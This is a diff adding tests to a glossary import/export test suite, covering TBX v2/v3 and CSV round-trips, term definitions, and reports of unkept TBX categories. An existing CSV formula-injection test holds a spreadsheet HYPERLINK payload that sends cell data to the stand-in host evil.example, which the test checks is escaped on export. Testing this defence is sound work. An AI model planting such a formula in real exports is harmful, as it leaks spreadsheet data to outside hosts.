@@ -155,6 +155,107 @@ describe('glossary import and export', () => {
       expect(back, format).toEqual(original);
     }
   });
+
+  it('exports TBX-Basic 2008 (v2) by default and v3 on request; both keep definitions into another library', async () => {
+    const { api } = start();
+    await api.addGlossaryTerm({ ...EN_ES, term: { ...EU, definition: 'Political & economic union of 27 <member> states.' } });
+    await api.addGlossaryTerm({ ...EN_ES, term: { source: 'NATO', target: 'OTAN', definition: 'North Atlantic alliance.' } });
+    const original = (await api.listGlossaryTerms(EN_ES)).map(({ source, target, note, definition, forbidden }) => ({ source, target, note, definition, forbidden }));
+    expect(original.map((t) => t.definition)).toEqual(['Political & economic union of 27 <member> states.', 'North Atlantic alliance.']);
+
+    const v2 = await api.exportGlossary({ ...EN_ES, format: 'tbx' });
+    expect(v2.fileName).toBe('glossary.en-es.tbx');
+    expect(v2.content).toContain('<martif type="TBX-Basic" xml:lang="en">');
+    expect(await api.exportGlossary({ ...EN_ES, format: 'tbx', tbxVersion: 'v2' })).toEqual(v2);
+    const v3 = await api.exportGlossary({ ...EN_ES, format: 'tbx', tbxVersion: 'v3' });
+    expect(v3.fileName).toBe('glossary.en-es.tbx-v3.tbx');
+    expect(v3.content).toContain('<tbx type="TBX-Basic" style="dca"');
+
+    for (const file of [v2, v3]) {
+      const other = start();
+      expect(await other.api.importGlossary({ ...EN_ES, fileName: file.fileName, dataBase64: b64(file.content), mode: 'merge' })).toMatchObject({ added: 2 });
+      const back = (await other.api.listGlossaryTerms(EN_ES)).map(({ source, target, note, definition, forbidden }) => ({ source, target, note, definition, forbidden }));
+      expect(back, file.fileName).toEqual(original);
+    }
+
+    // An edit that does not send a definition keeps it; one that sends '' clears it.
+    const nato = (await api.listGlossaryTerms(EN_ES))[1]!;
+    expect((await api.updateGlossaryTerm({ termId: nato.id, term: { source: 'NATO', target: 'OTAN' } })).definition).toBe('North Atlantic alliance.');
+    expect((await api.updateGlossaryTerm({ termId: nato.id, term: { source: 'NATO', target: 'OTAN', definition: '' } })).definition).toBe('');
+    await api.updateGlossaryTerm({ termId: nato.id, term: { source: 'NATO', target: 'OTAN', definition: 'North Atlantic alliance.' } });
+
+    // A changed definition is a change: merge updates the term.
+    const changed = v2.content.replace('North Atlantic alliance.', 'A military alliance.');
+    expect(await api.importGlossary({ ...EN_ES, fileName: 'g.tbx', dataBase64: b64(changed), mode: 'merge' })).toMatchObject({ updated: 1, unchanged: 1 });
+    expect((await api.listGlossaryTerms(EN_ES))[1]?.definition).toBe('A military alliance.');
+
+    // A file that carries no definitions (an older CSV, another tool's TBX) leaves stored ones alone.
+    const plainCsv = 'source,target,note,forbidden\r\nEuropean Union,Unión Europea,Never abbreviate in body text.,UE\r\nNATO,OTAN de la alianza,,\r\n';
+    expect(await api.importGlossary({ ...EN_ES, fileName: 'g.csv', dataBase64: b64(plainCsv), mode: 'replace' })).toMatchObject({ updated: 1, unchanged: 1 });
+    const plainTbx = v2.content.replace(/\s*<descrip type="definition">[^<]*<\/descrip>/g, '');
+    expect(await api.importGlossary({ ...EN_ES, fileName: 'g.tbx', dataBase64: b64(plainTbx), mode: 'merge' })).toMatchObject({ updated: 1, unchanged: 1 });
+    expect((await api.listGlossaryTerms(EN_ES)).map((t) => [t.target, t.definition])).toEqual([
+      ['Unión Europea', 'Political & economic union of 27 <member> states.'],
+      ['OTAN', 'A military alliance.'],
+    ]);
+    // The CSV export carries the definition (last column) and brings it back.
+    const csv = await api.exportGlossary({ ...EN_ES, format: 'csv' });
+    expect(csv.content.split('\r\n')[0]).toBe('source,target,note,forbidden,case_sensitive,definition');
+    const other = start();
+    await other.api.importGlossary({ ...EN_ES, fileName: csv.fileName, dataBase64: b64(csv.content), mode: 'merge' });
+    expect((await other.api.listGlossaryTerms(EN_ES)).map((t) => t.definition)).toEqual(['Political & economic union of 27 <member> states.', 'A military alliance.']);
+  });
+
+  it('says which data categories of a TBX file it did not keep, and in how many entries', async () => {
+    const { api } = start();
+    const tbx = `<?xml version="1.0" encoding="UTF-8"?>
+<martif type="TBX-Basic" xml:lang="en"><martifHeader><fileDesc><sourceDesc><p>x</p></sourceDesc></fileDesc></martifHeader><text><body>
+  <termEntry id="a"><descrip type="subjectField">economy</descrip>
+    <langSet xml:lang="en"><tig><term>bond</term><termNote type="partOfSpeech">noun</termNote></tig><tig><term>debenture</term></tig></langSet>
+    <langSet xml:lang="es"><tig><term>bono</term></tig></langSet></termEntry>
+  <termEntry id="b"><langSet xml:lang="en"><tig><term>tariff</term><termNote type="partOfSpeech">noun</termNote></tig></langSet>
+    <langSet xml:lang="es"><tig><term>arancel</term></tig></langSet></termEntry>
+  <termEntry id="c"><langSet xml:lang="en"><tig><term>deficit</term></tig></langSet><langSet xml:lang="es"><tig><term>déficit</term></tig></langSet></termEntry>
+</body></text></martif>`;
+    const withGerman = tbx.replace('</body>', '<termEntry id="d"><langSet xml:lang="en"><tig><term>levy</term></tig></langSet><langSet xml:lang="de"><tig><term>Abgabe</term></tig></langSet></termEntry></body>');
+    expect(await api.importGlossary({ ...EN_ES, fileName: 'g.tbx', dataBase64: b64(withGerman), mode: 'merge' })).toEqual({
+      added: 4,
+      updated: 0,
+      unchanged: 0,
+      removed: 0,
+      total: 4,
+      notKept: [
+        { category: 'subjectField', entries: 1 },
+        { category: 'partOfSpeech', entries: 2 },
+      ],
+      skippedEntries: 1,
+    });
+    // A file naming many categories: twenty are listed, the rest counted as "other".
+    const many = Array.from({ length: 30 }, (_, i) =>
+      `<termEntry><descrip type="cat${i}">x</descrip><langSet xml:lang="en"><tig><term>t${i}</term></tig></langSet><langSet xml:lang="es"><tig><term>u${i}</term></tig></langSet></termEntry>`,
+    ).join('');
+    const manyResult = await start().api.importGlossary({
+      ...EN_ES,
+      fileName: 'many.tbx',
+      dataBase64: b64(`<martif type="TBX-Basic" xml:lang="en"><text><body>${many}</body></text></martif>`),
+      mode: 'merge',
+    });
+    expect(manyResult.notKept).toHaveLength(21);
+    expect(manyResult.notKept?.at(-1)).toEqual({ category: 'other', entries: 10 });
+    // Verso's own export keeps everything it reads back: nothing is reported.
+    const own = await api.exportGlossary({ ...EN_ES, format: 'tbx' });
+    expect(await start().api.importGlossary({ ...EN_ES, fileName: own.fileName, dataBase64: b64(own.content), mode: 'merge' })).not.toHaveProperty('notKept');
+  });
+
+  it('refuses a TBX export of a pair without terms (a TBX body holds at least one entry), and a too-long definition', async () => {
+    const { api } = start();
+    expect(await failure(api.exportGlossary({ ...EN_ES, format: 'tbx' }))).toMatchObject({ code: 'GLOSSARY_EXPORT_EMPTY' });
+    expect((await api.exportGlossary({ ...EN_ES, format: 'csv' })).fileName).toBe('glossary.en-es.csv');
+    expect(await failure(api.addGlossaryTerm({ ...EN_ES, term: { ...EU, definition: 'x'.repeat(2001) } }))).toMatchObject({
+      code: 'GLOSSARY_TERM_TOO_LONG',
+      details: { field: 'definition', limit: 2000 },
+    });
+  });
 });
 
 describe('glossary CSV export and formula injection', () => {
@@ -171,8 +272,8 @@ describe('glossary CSV export and formula injection', () => {
     await api.addGlossaryTerm({ ...EN_ES, term: { source: '@cmd', target: '-x', note: '+note' } });
     const file = await api.exportGlossary({ ...EN_ES, format: 'csv' });
     const lines = file.content.split('\r\n');
-    expect(lines).toContain(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")",x,'=1+1,,no`);
-    expect(lines).toContain(`'@cmd,'-x,'+note,,no`);
+    expect(lines).toContain(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")",x,'=1+1,,no,`);
+    expect(lines).toContain(`'@cmd,'-x,'+note,,no,`);
     const other = start();
     await other.api.importGlossary({ ...EN_ES, fileName: file.fileName, dataBase64: b64(file.content), mode: 'merge' });
     expect((await other.api.listGlossaryTerms(EN_ES)).map((t) => [t.source, t.target, t.note]).sort()).toEqual([
